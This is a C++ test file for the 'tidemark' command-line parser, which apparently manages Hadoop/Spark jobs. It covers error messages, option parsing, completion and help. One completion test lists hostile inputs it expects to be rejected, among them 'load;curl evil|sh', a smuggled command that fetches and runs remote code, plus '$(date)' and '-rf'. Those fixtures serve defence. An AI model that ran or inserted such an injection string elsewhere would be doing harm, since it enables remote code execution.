// Tests that errors of the command line contain the option, the fault and the remedy.

#include <variant>

#include "absl/strings/str_split.h"
#include "cli/commands.h"
#include "cli/engines.h"
#include "cli/master_call.h"
#include "tests/test.h"

namespace tidemark::cli::command_line_test {
namespace {

using testing::EndsWith;
using testing::StartsWith;

// Splits a command at blanks. The word '' is empty.
std::vector<std::string> Words(const std::string& command) {
  std::vector<std::string> words = absl::StrSplit(command, ' ');
  std::replace(words.begin(), words.end(), std::string("''"), std::string());
  return words;
}

std::variant<Invocation, Answer> Parsed(std::vector<std::string> words) {
  words.insert(words.begin(), "tidemark");
  return ParseCommandLine(words);
}

// Returns the arguments of a valid command.
template <typename Arguments>
Arguments ArgumentsOf(const std::vector<std::string>& words) {
  const auto parsed = Parsed(words);
  EXPECT_TRUE(std::holds_alternative<Invocation>(parsed)) << testing::PrintToString(words);
  const auto* valid = std::get_if<Invocation>(&parsed);
  return valid == nullptr ? Arguments{} : std::any_cast<Arguments>(valid->arguments);
}

Answer AnswerTo(const std::vector<std::string>& words) {
  const auto parsed = Parsed(words);
  const Answer* answer = std::get_if<Answer>(&parsed);
  return answer == nullptr ? Answer{} : *answer;
}

TEST(SetOption, SplitsListsAtCommas) {
  const auto overrides =
      ArgumentsOf<ServeArguments>({"serve", "--set", "alerts.texts=late={job}: a, b",
                                   "alerts.on=late,ended", "lineage.namespace=a,b"})
          .overrides;
  ASSERT_EQ(overrides.size(), 3U);
  EXPECT_THAT(overrides[0].words, ElementsAre("late={job}: a", " b"));
  EXPECT_THAT(overrides[1].words, ElementsAre("late", "ended"));
  EXPECT_THAT(overrides[2].words, ElementsAre("a,b"));
}

struct Case {
  const char* name;
  std::string command;
  std::string says;
};

class CommandLineFault : public testing::TestWithParam<Case> {};

TEST_P(CommandLineFault, IsReportedWithTheOption) {
  const Answer answer = AnswerTo(Words(GetParam().command));
  EXPECT_EQ(answer.exit_code, kUsage);
  EXPECT_THAT(answer.err, StartsWith(std::string("tidemark: ") + GetParam().says + "\nSee `"));
  EXPECT_THAT(answer.err, EndsWith(" --help`.\n"));
}

const std::string kEmpty = " must not be empty; is a shell variable unset?";
const std::string kLongSocket = "unix:" + std::string(120, 'a');

const Case kFaults[] = {
    {"NoSubcommand", "profile", "a subcommand is missing: node"},
    {"Subcommand", "rnu", "unknown subcommand rnu; did you mean run?"},
    {"ListOfJobs", "ls", "unknown subcommand ls; did you mean get jobs?"},
    {"StatusOfJobs", "status", "unknown subcommand status; did you mean get jobs?"},
    {"NestedSubcommand", "hadoop pol", "unknown subcommand pol; did you mean poll?"},
    {"Option", "run example word-count --slots 2 --reducer 4",
     "unknown option --reducer; did you mean --reducers?"},
    {"OptionWithValue", "get jobs --masetr=1", "unknown option --masetr; did you mean --master?"},
    {"OptionBeforeTheCommand", "--master host:7411 watch job-1",
     "--master must follow the command: tidemark watch --master ..."},
    {"OptionWithinTheCommand", "get --master=host:7411 jobs",
     "--master must follow the command: tidemark get jobs --master ..."},
    {"Argument", "watch job-1 job-2", "unexpected argument job-2"},
    {"Id", "get stages", "ID is required"},
    {"EmptyResource", "why app-7 --resource ''",
     "--resource must be io, memory, network, processor, scan or slots, not empty"},
    {"ResourceOfNoName", "why app-7 --resource slot",
     "--resource must be io, memory, network, processor, scan or slots, not slot; did you mean "
     "slots?"},
    {"Compression", "what-if log --compress yes", "--compress must be true or false, not yes"},
    {"CompressionInAList", "what-if log --compress true,maybe",
     "--compress must be true or false, not maybe"},
    {"ANumberTwice", "what-if log --executors 2,4,2", "--executors: 2 is given twice; remove one"},
    {"ANumberTwiceInOtherDigits", "what-if log --data 0.5,0.50",
     "--data: 0.5 is given twice; remove one"},
    {"SlotsTwice", "what-if plan.yaml --slots 8 --slots 8",
     "--slots: 8 is given twice; remove one"},
    {"MemoryTwice", "what-if log --memory 2g,2g", "--memory: 2g is given twice; remove one"},
    {"EmptyProbe", "what-if log --probe reduceByKey=",
     "--probe: reduceByKey= names no log; is a shell variable unset?"},
    {"ThreeRuns", "compare a b c", "unexpected argument c"},
    {"EmptyMinutes", "why app-7 --last ''",
     "--last must be a whole number from 1 to 10, not empty"},
    {"Missing", "hadoop poll job_1_1", "--resource-manager is required"},
    {"NoApplication", "hadoop poll application_foo --resource-manager http://rm",
     "APPLICATION must be the id of an application or its job, such as "
     "application_1700000000000_0001, not application_foo"},
    {"Maps", "run example word-count --slots 2 --reducers 4 --maps many",
     "--maps must be a whole number from 0 to 100000, not many"},
    {"Slots", "run example word-count --slots 0 --reducers 4",
     "--slots must be a whole number from 1 to 1024, not 0"},
    {"Interval", "hadoop poll job_1_1 --resource-manager http://rm --interval 0",
     "--interval must be a number from 0.1 to 3600, not 0"},
    {"Choice", "watch job-1 -o jsnl",
     "--output must be auto, bar, jsonl, plain or quiet, not jsnl; did you mean jsonl?"},
    {"Port", "get jobs --master 127.0.0.1", "--master: port missing; did you mean 127.0.0.1:7411?"},
    {"PortOfIpv6", "get jobs --master [::1]", "--master: port missing; did you mean [::1]:7411?"},
    {"SocketForASparkConnector", "spark conf --jar a.jar --master unix:/run/m",
     "--master must be host:port, not unix:/run/m: connectors in a JVM cannot use unix sockets"},
    {"SocketForAHadoopConnector", "run hadoop --jar a.jar --master unix-abstract:m -- yarn",
     "--master must be host:port, not unix-abstract:m: connectors in a JVM cannot use unix "
     "sockets"},
    {"PortRange", "get jobs --master 127.0.0.1:99999",
     "--master: the port must be from 1 to 65535, not 99999"},
    {"AddressIsAUrl", "get jobs --master http://127.0.0.1:7412/",
     "--master must be host:port or unix:PATH, not the URL http://127.0.0.1:7412/; did you mean "
     "127.0.0.1:7411?"},
    {"AddressWithoutBrackets", "get jobs --master ::1:7411",
     "--master must be host:port or unix:PATH, and an IPv6 address must be in brackets; did you "
     "mean [::1]:7411?"},
    {"AddressIsAPort", "get jobs --master 7411",
     "--master: host missing; did you mean 127.0.0.1:7411?"},
    {"NoAddress", "get jobs --master ''", "--master must be host:port or unix:PATH, not empty"},
    {"PortZero", "get jobs --master [::1]:0", "--master: the port must be from 1 to 65535, not 0"},
    {"SocketWithoutAPath", "get jobs --master unix:",
     "--master must be unix: and the path of a socket, such as unix:/run/tidemark.sock, not unix:"},
    {"SocketOfAHost", "get jobs --master unix://x",
     "--master must be unix: and the path of a socket, such as unix:/run/tidemark.sock, not "
     "unix://x"},
    {"SocketWithALongPath", "get jobs --master " + kLongSocket,
     "--master: " + kLongSocket +
         ": the path is 120 bytes long, but a socket path may be at most 107; use a shorter path, "
         "such as /run/tidemark.sock, or host:port"},
    {"SocketInAFolder", "get jobs --master unix:///run/tidemark/",
     "--master: unix:///run/tidemark/: its path ends with /; name a file in that folder"},
    {"Excluded", "run example word-count --slots 2 --reducers 4 --master m:1 --log-dir logs",
     "--master cannot be used with --log-dir"},
    {"Value", "watch job-1 --master", "--master needs a value"},
    {"ValueOfMany", "serve --indicator", "--indicator needs a value"},
    {"Values", "get jobs --master a:1 --master b:1", "--master takes one value"},
    {"Assignment", "serve --set limits.jobs", "--set must be KEY=VALUE, not limits.jobs"},
    {"Parameter", "run example word-count --slots 2 --reducers 4 --param x",
     "--param must be KEY=VALUE, not x"},
    {"Speed", "replay log --speed fast",
     "--speed must be a number of at least 0.001, or max, not fast"},
    {"HistoryThatIsNotThere", "replay log --history /nosuch", "--history: no directory /nosuch"},
    {"HistoryThatIsAFile", "replay log --history /dev/null",
     "--history: /dev/null is not a directory"},
    {"SpeedOfNothing", "replay log --speed 1e-300",
     "--speed must be a number of at least 0.001, or max, not 1e-300"},
    {"Command", "run hadoop --jar a.jar", "the command to run is missing; put it after --"},
    {"CommandOfSpark", "run spark --jar a.jar", "the command to run is missing; put it after --"},
    {"CommandAfterDashes", "run hadoop --jar a.jar --",
     "the command to run is missing; put it after --"},
    {"EmptyId", "watch ''", "ID" + kEmpty},
    {"EmptyIdOfOneJob", "get jobs ''", "ID" + kEmpty},
    {"EmptyNameOfAJob", "workflow cancel nightly ''", "NAME" + kEmpty},
    {"EmptyNameAmongOthers", "workflow add nightly more.yaml --cancel report ''",
     "--cancel" + kEmpty},
    {"EmptyQuery", "why app-7 --query ''", "--query" + kEmpty},
    {"EmptyHost", "why app-7 --host ''", "--host" + kEmpty},
    {"EmptyFileOfTheToken", "why app-7 --token-file ''", "--token-file" + kEmpty},
    {"EmptyMemory", "what-if log --memory ''", "--memory" + kEmpty},
    {"EmptyLog", "what-if log --learn ''", "--learn" + kEmpty},
    {"HistoryOfNoName", "replay log --history ''", "--history" + kEmpty},
};

INSTANTIATE_TEST_SUITE_P(Faults, CommandLineFault, testing::ValuesIn(kFaults),
                         [](const auto& tested) { return tested.param.name; });

TEST(CommandLine, AcceptsAddressesWithAPort) {
  for (const char* address : {"127.0.0.1:7411", "[::1]:7411", "master:1", "unix:/run/tidemark"}) {
    EXPECT_EQ(AnswerTo({"get", "jobs", "--master", address}).err, "") << address;
  }
}

TEST(CommandLine, LeavesTheCommandOfAnEngineUnchanged) {
  for (const char* engine : {"hadoop", "spark"}) {
    const auto run =
        ArgumentsOf<EngineRunArguments>({"run", engine, "--jar", "t.jar", "--", "hadoop", "jar",
                                         "-D", "a=b", "[a,b]", "--", "--jar"});
    EXPECT_EQ(run.jar, "t.jar");
    EXPECT_THAT(run.command, ElementsAre("hadoop", "jar", "-D", "a=b", "[a,b]", "--", "--jar"));
  }
}

TEST(CommandLine, KeepsTheOrderOfListsOfWhatIf) {
  const auto arguments =
      ArgumentsOf<WhatIfArguments>({"what-if", "log", "--executors", "8,2", "--memory", "2g,4g",
                                    "--compress", "false,true", "--data", "2,0.5"});
  EXPECT_THAT(arguments.question.executors, ElementsAre(8, 2));
  EXPECT_THAT(arguments.question.memory, ElementsAre("2g", "4g"));
  EXPECT_THAT(arguments.question.compress, ElementsAre("false", "true"));
  EXPECT_THAT(arguments.question.data, ElementsAre(2, 0.5));
}

TEST(CommandLine, ParsesTheGoalAndTheLimitsOfASearch) {
  const auto arguments = ArgumentsOf<WhatIfArguments>(
      {"what-if", "log", "--find", "core-hours", "--limit", "time=20min", "cores=64"});
  EXPECT_EQ(arguments.goal, whatif::Goal::kCoreHours);
  EXPECT_THAT(arguments.limits,
              ElementsAre(testing::Pair("cores", "64"), testing::Pair("time", "20min")));
}

TEST(CommandLine, RejectsSizesBelowOneByte) {
  EXPECT_EQ(ArgumentsOf<ProfileNodeArguments>({"profile", "node", "--size", "2 MiB"}).bytes,
            2U << 20);
  for (const char* wrong : {"-1", "0", "5xb", "19e", "16eib"}) {
    EXPECT_THAT(
        AnswerTo({"profile", "node", "--size", wrong}).err,
        StartsWith("tidemark: --size must be a size of at least 1 byte, such as 10GiB, not " +
                   std::string(wrong) + "\n"));
  }
}

TEST(CommandLine, ParsesDecimalAndBinaryUnits) {
  const auto arguments =
      ArgumentsOf<AdviseArguments>({"advise", "log", "--space", "10GB", "--read-rate", "10GiB"});
  EXPECT_EQ(arguments.space_bytes, 1e10);
  EXPECT_EQ(arguments.read_bytes_per_second, 10.0 * (1 << 30));
}

TEST(Completion, ReturnsWordsThatBeginWithTheLastWord) {
  EXPECT_THAT(CompletionsOf({"wa"}).words, ElementsAre("watch"));
  EXPECT_THAT(CompletionsOf({""}).words, Contains("get"));
  EXPECT_THAT(CompletionsOf({"get", ""}).words,
              ElementsAre("jobs", "stages", "tasks", "workflows"));
  EXPECT_THAT(CompletionsOf({"run", "example", "--red"}).words, ElementsAre("--reducers"));
  EXPECT_THAT(CompletionsOf({"get", "jobs", "--mas"}).words, ElementsAre("--master"));
  EXPECT_THAT(CompletionsOf({}).words, Contains("watch"));
  EXPECT_THAT(CompletionsOf({"replay", "some"}).words, IsEmpty());
}

TEST(Completion, KnowsValuesAndPlacesOfIds) {
  EXPECT_THAT(CompletionsOf({"watch", "job", "-o", "p"}).values, ElementsAre("plain"));
  EXPECT_THAT(CompletionsOf({"watch", "job", "--output", ""}).values, Contains("jsonl"));
  EXPECT_THAT(CompletionsOf({"watch", "job", "--master", ""}).values, IsEmpty());
  EXPECT_THAT(CompletionsOf({"run", "example", "nat"}).values, ElementsAre("natural-join"));
  EXPECT_TRUE(CompletionsOf({"get", "stages", ""}).takes_job_id);
  EXPECT_TRUE(CompletionsOf({"compare", "night"}).takes_job_id);
  EXPECT_TRUE(CompletionsOf({"why", "app"}).takes_job_id);
  EXPECT_TRUE(CompletionsOf({"watch", "--compare", ""}).takes_job_id) << "a flag has no value";
  EXPECT_TRUE(CompletionsOf({"deadline", ""}).takes_job_id);
  EXPECT_FALSE(CompletionsOf({"watch", "-o", ""}).takes_job_id);
  EXPECT_FALSE(CompletionsOf({"watch", "--"}).takes_job_id);
  EXPECT_FALSE(CompletionsOf({"run", "example", ""}).takes_job_id);
  EXPECT_FALSE(CompletionsOf({"ge"}).takes_job_id);
}

TEST(Completion, OmitsIdsThatAShellWouldInterpret) {
  for (const char* id : {"nightly-17", "application_1700000000000_0001", "etl/load.v2:3@host"}) {
    EXPECT_TRUE(IsPlainWord(id)) << id;
  }
  for (const char* id : {"load;curl evil|sh", "a b", "a\nb", "*", "$(date)", "`date`", "\x1b[2J",
                         "~", "a'b", "-rf", "caf\xc3\xa9"}) {
    EXPECT_FALSE(IsPlainWord(id)) << id;
  }
}

TEST(Help, ListsConnectionOptionsInOneTopic) {
  const std::string topic = AnswerTo({"help", "connection"}).out;
  for (const char* option : {"--master", "--tls-ca", "--token-file", "TIDEMARK_TLS_KEY"}) {
    EXPECT_THAT(topic, HasSubstr(option));
  }
  const std::string help = AnswerTo({"watch", "--help"}).out;
  EXPECT_THAT(help, HasSubstr("tidemark help connection"));
  EXPECT_THAT(help, Not(HasSubstr("--tls-ca")));
  EXPECT_EQ(AnswerTo({"help", "watch"}).out, help + "\n");
  EXPECT_THAT(AnswerTo({"help", "nosuch"}).err, StartsWith("tidemark: no help for nosuch"));
}

// Adds the commands below `command` that have no subcommands.
void AddLeaves(const std::vector<std::string>& command,
               std::vector<std::vector<std::string>>& leaves) {
  std::vector<std::string> words = command;
  words.emplace_back();
  const std::vector<std::string> subcommands = CompletionsOf(words).words;
  if (subcommands.empty()) leaves.push_back(command);
  for (const std::string& subcommand : subcommands) {
    words.back() = subcommand;
    AddLeaves(words, leaves);
  }
}

TEST(Help, NamesTheExitCodeOfWrongUse) {
  std::vector<std::vector<std::string>> leaves;
  AddLeaves({}, leaves);
  EXPECT_GT(leaves.size(), 20u);
  for (std::vector<std::string> words : leaves) {
    if (words[0] == "help" || words[0] == "version" || words[0] == "completion") continue;
    words.emplace_back("--help");
    const std::string help = AnswerTo(words).out;
    const std::size_t codes = help.find("xit code: ");
    ASSERT_NE(codes, std::string::npos) << help;
    EXPECT_THAT(help.substr(codes), testing::ContainsRegex("[^0-9]2 ")) << help;
  }
}

TEST(Version, IsPrinted) {
  const Answer answer = AnswerTo({"version"});
  EXPECT_EQ(answer.exit_code, kSuccess);
  EXPECT_THAT(answer.out, StartsWith("tidemark "));
}

// No graph is installed beside the program of this test.
TEST(Demo, NamesTheRemedyIfItsGraphIsMissing) {
  const auto parsed = Parsed({"demo", "--web"});
  ASSERT_TRUE(std::holds_alternative<Invocation>(parsed));
  testing::internal::CaptureStderr();
  EXPECT_EQ(std::get<Invocation>(parsed).run(), kUsage);
  const std::string error = testing::internal::GetCapturedStderr();
  EXPECT_THAT(error, StartsWith("tidemark: the demo's graph is missing at "));
  EXPECT_THAT(error, EndsWith("; reinstall tidemark, or pass --input\n"));
}

}  // namespace
}  // namespace tidemark::cli::command_line_test
